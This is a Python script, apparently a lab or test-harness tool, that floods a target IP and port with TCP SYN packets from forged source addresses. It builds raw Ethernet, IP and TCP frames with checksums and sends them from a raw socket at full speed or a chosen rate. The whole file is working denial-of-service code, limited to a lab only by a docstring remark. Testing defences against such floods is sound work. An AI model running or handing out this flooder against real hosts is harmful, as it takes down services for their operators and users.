#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A SYN flood from forged sources, as fast as a raw socket takes it or at a rate:
flood.py INTERFACE TARGET_MAC IP PORT [--rate N]. Run it in a client's namespace of the lab, nowhere else. Prints {"event":
"ready"} when it begins and, after SIGTERM, {"event": "end", "sent": N}."""
import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import time

SOURCES = "198.18.0.0/15"  # benchmarking, RFC 2544: nobody answers
FRAMES = 32768
BATCH = 64
MSS = b"\x02\x04\x05\xb4"


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, sport, dport, seq):
    """An IP packet; source and target are packed addresses."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 0x60, 0x02, 64240, 0, 0) + MSS
    check = checksum(source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0) + source + target
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def frames(mac, own, target, port, chance):
    network = ipaddress.ip_network(SOURCES)
    ethernet = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00"
    for _ in range(FRAMES):
        source = network[chance.randrange(1, network.num_addresses - 1)].packed
        yield ethernet + syn(source, target, chance.randrange(1024, 65536), port, chance.getrandbits(32))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("interface")
    parser.add_argument("mac")
    parser.add_argument("ip")
    parser.add_argument("port", type=int)
    parser.add_argument("--rate", type=int, default=0, help="SYNs a second, 0: as many as possible")
    args = parser.parse_args()
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)  # protocol 0: receives nothing
    sock.bind((args.interface, 0))
    all_frames = list(frames(args.mac, sock.getsockname()[4], ipaddress.ip_address(args.ip).packed, args.port, random.Random(1)))
    running = [True]
    signal.signal(signal.SIGTERM, lambda *_: running.clear())
    print(json.dumps({"event": "ready"}), flush=True)
    sent, lost, started = 0, 0, time.monotonic()
    while running:
        for at in range(sent, sent + BATCH):
            try:
                sock.send(all_frames[at % FRAMES])
            except OSError:  # the queue is full
                lost += 1
        sent += BATCH
        if args.rate:
            time.sleep(max(0.0, started + sent / args.rate - time.monotonic()))
    print(json.dumps({"event": "end", "sent": sent - lost, "seconds": round(time.monotonic() - started, 3)}), flush=True)


if __name__ == "__main__":
    main()
